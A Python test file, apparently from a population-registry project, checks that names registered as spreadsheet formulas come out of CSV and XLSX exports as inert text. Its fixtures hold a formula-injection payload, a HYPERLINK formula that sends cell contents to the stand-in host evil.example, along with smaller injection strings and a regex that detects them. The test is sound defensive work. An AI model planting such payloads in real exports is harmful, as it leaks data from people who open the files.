"""Issue #12: no export runs a formula. A name registered as ``=HYPERLINK(...)`` (or
``+1+1``, ``-2+3``, ``@SUM(A1)``, a tab then ``=1``) comes out of every CSV as text after
an apostrophe, and out of every XLSX as a string cell (no ``<f>``, no link), on SQLite
and PostgreSQL, through the CLI and the API."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine
from typer.testing import CliRunner

from laosp.cli import build_app
from laosp.config import Settings
from laosp.db import unit_of_work
from laosp.projection.engine import run_projection
from laosp.projection.loading import load_scenario
from laosp.projection.report import as_csv
from laosp.projection.workbook import write_workbook
from laosp.registry.export import write_files
from laosp.registry.importer import import_files
from laosp.reports.xlsx import Column, Sheet, workbook_bytes
from laosp.server import create_app
from tests.api.conftest import SECRET, bearer, seed
from tests.cli_sign_in import sign_in_cli
from tests.projection.conftest import PACK

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&C2&D2,"Click")'
LINK = "http://evil.example/x"
DATE = "2025-06-30"
DISTRICT = "1703"
HOUSEHOLDS = [
    {"household_id": f"XS{n}", "district_code": DISTRICT, "village_code": "1703008"}
    for n in (1, 2, 3)
]
PERSONS = [
    {
        "person_id": "XS-P1",
        "household_id": "XS1",
        "relationship": "head",
        "given_name": PAYLOAD,
        "family_name": LINK,
        "sex": "F",
        "birth_date": "1990-01-01",
    },
    {
        "person_id": "XS-P2",
        "household_id": "XS1",
        "relationship": "spouse",
        "given_name": "+1+1",
        "family_name": "-2+3",
        "sex": "M",
        "birth_date": "1988-01-01",
    },
    {
        "person_id": "XS-P3",
        "household_id": "XS1",
        "relationship": "child",
        "given_name": "@SUM(A1)",
        "family_name": "\t=1",  # the import trims the tab: "=1" is registered
        "sex": "M",
        "birth_date": "2015-01-01",
    },
    # refused: three cells carry a payload, so the report repeats them
    {
        "person_id": "XS-P4",
        "household_id": "XS2",
        "relationship": "head",
        "given_name": "Bad",
        "family_name": "Row",
        "sex": PAYLOAD,
        "birth_date": "@SUM(A1)",
        "earnings_monthly": "+1+1",
    },
    # the same woman as XS-P1 registered again, under an id that is a formula
    {
        "person_id": PAYLOAD,
        "household_id": "XS3",
        "relationship": "head",
        "given_name": PAYLOAD,
        "family_name": LINK,
        "sex": "F",
        "birth_date": "1990-01-01",
    },
]
#: person id → (given name, family name) as every CSV must show them
INERT_NAMES = {
    "XS-P1": ("'" + PAYLOAD, LINK),
    "XS-P2": ("'+1+1", "'-2+3"),
    "XS-P3": ("'@SUM(A1)", "'=1"),
    "'" + PAYLOAD: ("'" + PAYLOAD, LINK),
}
#: the registered text every XLSX must hold as string cells
STRINGS = {PAYLOAD, LINK, "+1+1", "-2+3", "@SUM(A1)", "=1"}
FORMULA_START = re.compile(r"^[=+\-@\t\r]")
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][+-]?\d+)?")


def cli(*args: str) -> str:
    result = CliRunner().invoke(build_app(), list(args))
    assert result.exit_code == 0, result.output
    return result.stdout


def files(folder: Path) -> tuple[Path, Path]:
    households, persons = folder / "households.csv", folder / "persons.csv"
    pl.DataFrame(HOUSEHOLDS).write_csv(households)
    pl.DataFrame(PERSONS, infer_schema_length=None).write_csv(persons)
    return households, persons


@pytest.fixture(autouse=True)
def _cli_signed_in(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> None:
    """The registry CLI acts as a signed-in central officer."""
    if "db_url" in request.fixturenames:
        sign_in_cli(monkeypatch, request.getfixturevalue("db_url"))


def register(db_url: str, folder: Path) -> Path:
    """Import the persons above; the path of the import report (CSV)."""
    households, persons = files(folder)
    report = folder / "report.csv"
    cli(
        "registry", "import", "--households", str(households), "--persons", str(persons),
        "--report", str(report), "--db", db_url,
    )  # fmt: skip
    return report


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def assert_no_cell_starts_a_formula(table: list[dict[str, str]]) -> None:
    cells = [value for row in table for value in (*row.keys(), *row.values())]
    formulas = [v for v in cells if FORMULA_START.match(v) and not NUMBER.fullmatch(v)]
    assert not formulas  # a negative number is a number, not text


def assert_names_inert(table: list[dict[str, str]]) -> None:
    assert_no_cell_starts_a_formula(table)
    names = {
        row["person_id"]: (row["given_name"], row["family_name"])
        for row in table
        if row["household_id"].startswith("XS")
    }
    assert names == INERT_NAMES


def xlsx_parts(data: bytes) -> tuple[str, set[str]]:
    """The XML of every sheet (joined) and the text of the shared strings."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        names = book.namelist()
        sheets = "".join(book.read(n).decode() for n in names if n.startswith("xl/worksheets/"))
        shared = book.read("xl/sharedStrings.xml").decode()
    strings = {
        re.sub(r"&(quot|amp|lt|gt);", lambda m: {"quot": '"', "amp": "&"}[m[1]], text)
        for text in re.findall(r"<t(?: [^>]*)?>([^<]*)</t>", shared)
    }
    return sheets, strings


def assert_xlsx_inert(data: bytes, expected: set[str]) -> None:
    sheets, strings = xlsx_parts(data)
    assert "<f>" not in sheets
    assert "<hyperlink" not in sheets
    assert expected <= strings
    assert not {text for text in strings if text.startswith("'")}  # no apostrophe shown


def test_import_report_csv_writes_refused_values_as_text(db_url: str, tmp_path: Path) -> None:
    report = rows(register(db_url, tmp_path).read_text("utf-8"))
    assert_no_cell_starts_a_formula(report)
    refused = {(row["field"], row["value"]) for row in report if row["record_id"] == "XS-P4"}
    assert {
        ("sex", "'" + PAYLOAD),
        ("birth_date", "'@SUM(A1)"),
        ("earnings_monthly", "'+1+1"),
    } <= refused


def test_gap_list_csv_from_the_cli(db_url: str, tmp_path: Path) -> None:
    register(db_url, tmp_path)
    path = tmp_path / "gaps.csv"
    cli("gaps", "--date", DATE, "--format", "csv", "--output", str(path), "--db", db_url)
    assert_names_inert(rows(path.read_text("utf-8")))


def test_gap_list_xlsx_from_the_cli(db_url: str, tmp_path: Path) -> None:
    register(db_url, tmp_path)
    path = tmp_path / "gaps.xlsx"
    cli("gaps", "--date", DATE, "--format", "xlsx", "--output", str(path), "--db", db_url)
    assert_xlsx_inert(path.read_bytes(), STRINGS)


@pytest.fixture
def client(db_url: str, tmp_path: Path) -> Iterator[TestClient]:
    seed(db_url)
    register(db_url, tmp_path)
    app = create_app(Settings(database_url=db_url, secret_key=SECRET))
    with TestClient(app) as test_client:
        yield test_client
    app.state.laosp.engine.dispose()


def test_gap_list_downloads_from_the_api(client: TestClient) -> None:
    headers = bearer(client, "central")
    url = f"/api/gaps/list?district={DISTRICT}&date={DATE}&format="
    listed = client.get(url + "csv", headers=headers)
    assert listed.status_code == 200, listed.text
    assert_names_inert(rows(listed.content.decode("utf-8")))
    workbook = client.get(url + "xlsx", headers=headers)
    assert workbook.status_code == 200, workbook.text
    assert_xlsx_inert(workbook.content, STRINGS)


def test_duplicates_csv(db_url: str, tmp_path: Path) -> None:
    register(db_url, tmp_path)
    path = tmp_path / "pairs.csv"
    cli("registry", "duplicates", "--district", DISTRICT, "--format", "csv", "--output",
        str(path), "--db", db_url)  # fmt: skip
    pairs = rows(path.read_text("utf-8"))
    assert_no_cell_starts_a_formula(pairs)
    found = {frozenset((pair["person_id"], pair["duplicate_id"])) for pair in pairs}
    assert frozenset(("'" + PAYLOAD, "XS-P1")) in found


def test_registry_export_is_inert_and_imports_back_unchanged(
    engine: Engine, tmp_path: Path
) -> None:
    households, persons = files(tmp_path)
    with unit_of_work(engine) as session:
        import_files(session, households=households, persons=persons, today=dt.date(2025, 6, 1))
    out_households, out_persons = tmp_path / "out-h.csv", tmp_path / "out-p.csv"
    with unit_of_work(engine) as session:
        write_files(session, out_households, out_persons)
    exported = rows(out_persons.read_text("utf-8"))
    assert_no_cell_starts_a_formula(exported)
    assert {row["person_id"]: (row["given_name"], row["family_name"]) for row in exported} == (
        INERT_NAMES
    )
    with unit_of_work(engine) as session:
        again = import_files(
            session, households=out_households, persons=out_persons, today=dt.date(2025, 6, 1)
        )
    assert again.refused == 0, again.problems
    assert (again.counts["persons"].unchanged, again.counts["households"].unchanged) == (4, 2)


def test_projection_csv_and_workbook(tmp_path: Path) -> None:
    scenario = load_scenario(
        "lao_default", PACK, {"scenario.name": PAYLOAD, "scenario.end_year": 2026}
    )
    result = run_projection(scenario)
    table = rows(as_csv([result]))
    assert_no_cell_starts_a_formula(table)
    assert {row["scenario"] for row in table} == {"'" + PAYLOAD}
    path = tmp_path / "projection.xlsx"
    write_workbook([result], path)
    assert_xlsx_inert(path.read_bytes(), {PAYLOAD})


def test_report_workbook_cells_are_strings() -> None:
    columns = [Column("Name"), Column("Count", "int")]
    rows_: list[list[Any]] = [[text, 1] for text in sorted(STRINGS)]
    assert_xlsx_inert(workbook_bytes([Sheet("Names", columns, rows_)]), STRINGS)
